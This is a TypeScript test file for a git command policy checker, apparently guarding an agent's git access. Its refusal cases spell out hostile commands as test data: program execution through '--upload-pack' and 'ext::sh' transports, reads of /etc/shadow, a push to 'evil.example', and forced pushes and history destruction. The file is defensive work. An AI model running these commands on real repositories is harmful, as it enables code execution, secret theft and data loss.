import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { checkCommand } from './check-command.js';
import { resolvePolicy } from './policy.js';
import { tokenize } from './tokenize.js';

const root = mkdtempSync(join(tmpdir(), 'git-mcp-policy-'));
mkdirSync(join(root, 'flow-state'));
mkdirSync(join(root, 'docs'));
mkdirSync(join(root, 'work'));
symlinkSync(join(root, 'flow-state'), join(root, 'work', 'fs-link'));
symlinkSync('/etc', join(root, 'work', 'etc-link'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const ctx = { projectRoot: root, policy: resolvePolicy({ preset: 'maintainer' }), remotes: ['origin', 'upstream'] };
const check = (command: string, c = ctx) => {
  const chain = tokenize(command);
  for (const cmd of chain) {
    const r = checkCommand(cmd.argv, c);
    if (r) return r;
  }
  return undefined;
};

describe('checkCommand allows ordinary work', () => {
  it.each([
    'status', 'git status --short', 'log --oneline -5', 'log -n 3 --author "Jane flow-state Doe"', 'log --grep=flow-state',
    'log -p HEAD~2..HEAD -- docs', 'log origin/main..HEAD', 'diff', 'diff --stat HEAD~1', 'diff --cached -- docs/a.md',
    'show HEAD:docs/a.md', 'show --stat', 'add docs/a.md', 'add -- docs', "add 'docs/*.md'",
    "add -A -- . ':!flow-state' ':!qms-cli'", "add -A ':(exclude)flow-state' ':^qms-cli'", 'commit -m "fix flow-state typo"',
    'commit -m x --author "A <a@b>"', 'branch', 'branch feature', 'branch -d old', 'branch -m old new',
    'branch -u origin/main', 'switch main', 'switch -c feature', 'switch -', 'checkout main', 'checkout -b feature', 'checkout -- docs/a.md',
    'restore docs/a.md', "restore --staged -- . ':!flow-state' ':!qms-cli'", 'fetch', 'fetch origin',
    'fetch --all --prune', 'pull', 'pull origin main', 'pull --rebase', 'push', 'push origin main', 'push -u origin feature',
    'push --set-upstream origin HEAD', 'push origin HEAD:refs/heads/feature', 'push --tags', 'merge feature', 'merge -s ort feature',
    'rebase main', 'stash', 'stash push -m "wip" -- docs', 'stash list', 'stash show -p stash@{0}', 'stash pop', 'stash apply',
    'tag v1', 'tag -a v1 -m "release"', 'reset --soft HEAD~1', 'reset HEAD docs/a.md', 'reset --keep HEAD~1', 'rm docs/a.md',
    'rm --cached docs/a.md', 'mv docs/a.md docs/b.md', 'rev-parse --show-toplevel', 'rev-parse --git-dir', 'rev-parse HEAD',
    'ls-files', 'ls-files docs', 'blame docs/a.md', 'blame --ignore-rev HEAD docs/a.md', 'remote', 'remote -v', 'remote show origin',
    'grep flow-state', 'grep -n TODO -- docs', 'describe --tags', 'reflog', 'reflog show', 'cherry-pick -x abc123',
    'status && log -1 || status ; diff', 'log -L 1,5:docs/a.md',
  ])('%s', (command) => {
    expect(check(command)).toBeUndefined();
  });
});

describe('checkCommand refuses, naming the rule', () => {
  it.each([
    // global options before the subcommand
    ['-c core.sshCommand=touch status', 'global-option'],
    ['-C / status', 'global-option'],
    ['--git-dir=flow-state/.git status', 'global-option'],
    ['--work-tree=/ status', 'global-option'],
    ['--exec-path=/tmp status', 'global-option'],
    ['--namespace=x push', 'global-option'],
    ['-p log', 'global-option'],
    // allowlist
    ['clean -fd', 'subcommand-allowlist'],
    ['config core.hooksPath /tmp', 'subcommand-allowlist'],
    ['submodule foreach "touch x"', 'subcommand-allowlist'],
    ['filter-branch --all', 'subcommand-allowlist'],
    ['update-ref -d refs/heads/main', 'subcommand-allowlist'],
    ['gc --prune=now', 'subcommand-allowlist'],
    ['clone ext::sh', 'subcommand-allowlist'],
    ['worktree add /tmp/x', 'subcommand-allowlist'],
    ['touch x', 'subcommand-allowlist'],
    // options that run programs / touch files
    ['fetch --upload-pack=touch origin', 'runs-program'],
    ['fetch --upload-p "touch x" origin', 'runs-program'],
    ['pull --upload-pack touch', 'runs-program'],
    ['push --receive-pack=touch origin', 'runs-program'],
    ['push --exec=touch origin', 'runs-program'],
    ['ls-remote -u touch origin', 'runs-program'],
    ['ls-remote --upload-pack=touch origin', 'runs-program'],
    ['diff --ext-diff', 'runs-program'],
    ['grep -O x', 'runs-program'],
    ['grep --open-files-in-pager=vi x', 'runs-program'],
    ['rebase -x "touch x" main', 'runs-program'],
    ['rebase --exec="touch x" main', 'runs-program'],
    ['merge -s evil main', 'runs-program'],
    ['pull --strategy=evil', 'runs-program'],
    ['log --help', 'runs-program'],
    ['diff --output=/tmp/x', 'writes-file'],
    ['log --output /tmp/x', 'writes-file'],
    ['show --outp=/tmp/x', 'writes-file'],
    ['commit -F /etc/shadow', 'reads-file'],
    ['commit --file=/etc/shadow', 'reads-file'],
    ['commit -t /etc/shadow', 'reads-file'],
    ['blame --contents /etc/shadow docs/a.md', 'reads-file'],
    ['diff --no-index /etc/shadow docs/a.md', 'reads-file'],
    ['add --pathspec-from-file=/etc/shadow', 'reads-file'],
    ['diff -O/etc/shadow', 'reads-file'],
    ['merge -F /etc/shadow main', 'reads-file'],
    ['status --git-dir=/x', 'global-option'],
    ['checkout --work-tree=/ main', 'global-option'],
    // transports and URLs
    ['fetch ext::sh -c touch% x', 'transport'],
    ['pull "ext::sh -c touch% x"', 'transport'],
    ['push https://evil.example/x main', 'transport'],
    ['fetch /tmp/other-repo', 'transport'],
    ['fetch file:///tmp/other-repo', 'transport'],
    ['push --repo=ext::sh main', 'transport'],
    ['remote show ext::sh', 'transport'],
    ['fetch --multiple origin ext::sh', 'transport'],
    ['fetch --mul origin ext::sh', 'transport'],
    ['fetch --all ext::sh', 'transport'],
    ['pull --all origin ext::sh', 'transport'],
    ["fetch origin main --refmap='+refs/heads/*:refs/heads/*'", 'fetch-force'],
    // force and history destruction, every spelling
    ['push --force', 'push-force'],
    ['push  --force  origin main', 'push-force'],
    ['push -f', 'push-force'],
    ['push origin main -f', 'push-force'],
    ['push -uf origin main', 'push-force'],
    ['push -fu origin main', 'push-force'],
    ['push -vfu origin main', 'push-force'],
    ['push --forc origin', 'push-force'],
    ['push --force-with-lease', 'push-force'],
    ['push --force-w', 'push-force'],
    ['push --force-if-includes', 'push-force'],
    ['push origin +main', 'push-force'],
    ["push origin '+main:main'", 'push-force'],
    ['push origin :main', 'push-delete'],
    ['push --delete origin main', 'push-delete'],
    ['push -d origin main', 'push-delete'],
    ['push --mirror', 'push-mirror'],
    ['push --prune origin', 'push-prune'],
    ['fetch -f origin main:main', 'fetch-force'],
    ['fetch origin +main:main', 'fetch-force'],
    ['reset --hard', 'reset-hard'],
    ['reset --har HEAD~1', 'reset-hard'],
    ['reset --ha', 'reset-hard'],
    ['reset --merge', 'reset-hard'],
    ['checkout .', 'checkout-discard'],
    ['checkout -- .', 'checkout-discard'],
    ['checkout ./', 'checkout-discard'],
    ["checkout -- ':/'", 'checkout-discard'],
    ["checkout -- '*'", 'checkout-discard'],
    ['checkout -f main', 'checkout-discard'],
    ['checkout --force main', 'checkout-discard'],
    ['checkout -B main', 'branch-force'],
    ['switch -f main', 'checkout-discard'],
    ['switch --discard-changes main', 'checkout-discard'],
    ['switch -C main', 'branch-force'],
    ['restore .', 'restore-tree'],
    ['restore -- .', 'restore-tree'],
    ['restore --worktree --staged .', 'restore-tree'],
    ['stash clear', 'stash-drop'],
    ['stash drop', 'stash-drop'],
    ['stash branch x', 'subcommand-form'],
    ['branch -D feature', 'branch-force'],
    ['branch -d --force feature', 'branch-force'],
    ['branch --delete --force feature', 'branch-force'],
    ['branch -df feature', 'branch-force'],
    ['branch -M main', 'branch-force'],
    ['branch -f main HEAD~3', 'branch-force'],
    ['tag -d v1', 'tag-overwrite'],
    ['tag -f v1', 'tag-overwrite'],
    ['reflog expire --all', 'reflog-expire'],
    ['reflog delete HEAD@{1}', 'reflog-expire'],
    ['remote add evil ext::sh', 'subcommand-form'],
    ['remote set-url origin ext::sh', 'subcommand-form'],
    // the action after the command's own options: git 2.39 runs `remote -v add` as `remote add`
    ['remote -v add foo /tmp/x', 'subcommand-form'],
    ['remote --verbose set-url origin /tmp/x', 'subcommand-form'],
    ['remote -v remove origin', 'subcommand-form'],
    ['remote -v set-head origin -d', 'subcommand-form'],
    ['remote -v prune origin', 'subcommand-form'],
    ['stash -q drop', 'stash-drop'],
    ['stash --quiet clear', 'stash-drop'],
    ['stash -q branch x', 'subcommand-form'],
    ['reflog --all expire', 'reflog-expire'],
    ['reflog -q delete HEAD@{1}', 'reflog-expire'],
    ['rm -f docs/a.md', 'rm-force'],
    ['rm -rf docs', 'rm-force'],
    // protected paths in every spelling
    ['add flow-state', 'protected-path'],
    ['add ./flow-state', 'protected-path'],
    ['add flow-state/', 'protected-path'],
    ['add flow-state/x.py', 'protected-path'],
    ['add FLOW-STATE', 'protected-path'],
    ['add qms-cli/../qms-cli', 'protected-path'],
    ['add docs/../flow-state', 'protected-path'],
    ["add fl''ow-state", 'protected-path'],
    ['add "flow"-state', 'protected-path'],
    ["add 'flow\\-state'", 'protected-path'],
    ["add ':(top)flow-state'", 'protected-path'],
    ["add ':/flow-state'", 'protected-path'],
    ["add ':(icase)Flow-State'", 'protected-path'],
    ["add ':(glob)*state'", 'protected-path'],
    ["add ':(attr:x)docs'", 'protected-path'],
    ["add 'flow-*'", 'protected-path'],
    ["add 'f*'", 'protected-path'],
    ["add '*'", 'protected-path'],
    ["log -- '*.py'", 'protected-path'],
    ['add .', 'protected-path'],
    ['restore --staged .', 'protected-path'],
    ['add -A', 'protected-path'],
    ['add -u', 'protected-path'],
    ['commit -a -m x', 'protected-path'],
    ['commit -am x', 'protected-path'],
    ['rm -r .', 'protected-path'],
    ['log -- flow-state', 'protected-path'],
    ['diff HEAD -- qms-cli', 'protected-path'],
    ['show HEAD:flow-state', 'protected-path'],
    ['push origin HEAD:flow-state', 'protected-path'],
    ['push origin HEAD:refs/heads/flow-state', 'protected-path'],
    ['checkout flow-state', 'protected-path'],
    ['switch -c flow-state', 'protected-path'],
    ['restore --source=HEAD~1 -- flow-state', 'protected-path'],
    ['add work/fs-link/x', 'protected-path'],
    ['fetch --recurse-submodules', 'protected-path'],
    ['pull --recurse-submodules=yes', 'protected-path'],
    ['push --recurse-submodules=on-demand', 'protected-path'],
    ['status --recurse-submodules', 'protected-path'],
    // outside the project
    ['diff /etc/shadow /dev/null', 'outside-project'],
    ['add ../outside', 'outside-project'],
    ['blame /etc/passwd', 'outside-project'],
    ['diff work/etc-link/shadow docs/a.md', 'outside-project'],
    // option smuggling through operands: git reads a leading "-" as an option wherever it is
    ['checkout --upload-pack=touch', 'runs-program'],
    ['branch --output=/tmp/x', 'writes-file'],
    ['switch --upload-pack=x main', 'runs-program'],
    ['log --end-of-options --output=/tmp/x', 'writes-file'],
    // …except where git itself reads it as the value of an option, which cannot run anything
    ['switch --orphan --upload-pack=x', undefined],
  ])('%s → %s', (command, rule) => {
    expect(check(command)?.rule).toBe(rule);
  });
});

describe('policy configuration', () => {
  it('disabled rules no longer refuse', () => {
    const relaxed = { ...ctx, policy: resolvePolicy({ preset: 'maintainer', disabledRules: ['push-force'] }) };
    expect(check('push --force origin main', relaxed)).toBeUndefined();
    expect(check('push --delete origin main', relaxed)?.rule).toBe('push-delete');
  });
  it('an action after options is still the action, with the transport rule off', () => {
    // The transport rule used to refuse `remote -v add` only by accident (its operands are not remotes).
    const noTransport = { ...ctx, policy: resolvePolicy({ preset: 'maintainer', disabledRules: ['transport'] }) };
    for (const command of ['remote -v add foo /tmp/x', 'remote -v set-url origin /tmp/x', 'remote -v rename origin x', 'remote -v remove origin']) {
      expect(check(command, noTransport)?.rule, command).toBe('subcommand-form');
    }
    expect(check('stash -q drop', noTransport)?.rule).toBe('stash-drop');
    expect(check('stash -q clear', noTransport)?.rule).toBe('stash-drop');
    expect(check('reflog --all expire', noTransport)?.rule).toBe('reflog-expire');
    for (const command of ['remote -v', 'remote -v show origin', 'remote -v get-url origin', 'stash -q', 'stash -m wip', 'stash -q push -- docs']) {
      expect(check(command, noTransport), command).toBeUndefined();
    }
  });
  it('allowed URLs may be named', () => {
    const withUrl = { ...ctx, policy: resolvePolicy({ preset: 'maintainer', allowedUrls: ['https://example.com/x.git'] }) };
    expect(check('fetch https://example.com/x.git', withUrl)).toBeUndefined();
    expect(check('fetch https://example.com/y.git', withUrl)?.rule).toBe('transport');
  });
  it('protected paths and the allowlist are configurable', () => {
    const custom = { ...ctx, policy: resolvePolicy({ protectedPaths: ['vendor/lib'], allowedSubcommands: ['status', 'add', 'clean'] }) };
    expect(check('add flow-state', custom)).toBeUndefined();
    expect(check('add vendor/lib/x', custom)?.rule).toBe('protected-path');
    expect(check('add vendor', custom)?.rule).toBe('protected-path');
    expect(check('log', custom)?.rule).toBe('subcommand-allowlist');
    expect(check('clean -n', custom)).toBeUndefined();
    expect(check('clean -f docs', custom)?.rule).toBe('clean-force');
    expect(check('clean -n -fd docs', custom)?.rule).toBe('clean-force');
  });
  it('rejects bad policies with the key and a fix', () => {
    expect(() => resolvePolicy({ allowedProtocols: ['ext'] })).toThrow(/ext/);
    expect(() => resolvePolicy({ protectedPaths: ['../x'] })).toThrow(/inside/);
    expect(() => resolvePolicy({ disabledRules: ['syntax'] })).toThrow(/syntax/);
    expect(() => resolvePolicy({ bogus: true } as never)).toThrow(/unknown key "bogus"/);
    expect(() => resolvePolicy({ allowedSubcommands: 'status' as never })).toThrow(/allowedSubcommands/);
  });
});
